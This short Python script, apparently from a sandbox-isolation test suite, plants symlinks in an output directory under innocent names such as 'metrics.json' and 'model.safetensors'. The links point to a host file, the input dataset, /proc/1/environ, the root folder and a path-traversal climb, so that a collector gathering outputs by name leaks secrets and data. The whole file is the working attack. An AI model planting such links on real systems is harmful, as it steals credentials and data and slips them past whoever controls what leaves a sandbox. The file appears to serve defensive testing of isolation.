"""Leave links to the dataset and to the host's files, for whoever collects by name."""

import os

from attacker import PLAN, attempt

for name, target in {
    "metrics.json": PLAN["host_file"],
    "model.safetensors": "/data/inputs",
    "log": "/proc/1/environ",
    "folder": "/",
    "climb": "../../../../.." + PLAN["host_file"],
}.items():
    with attempt():
        os.symlink(target, f"/data/outputs/{name}")
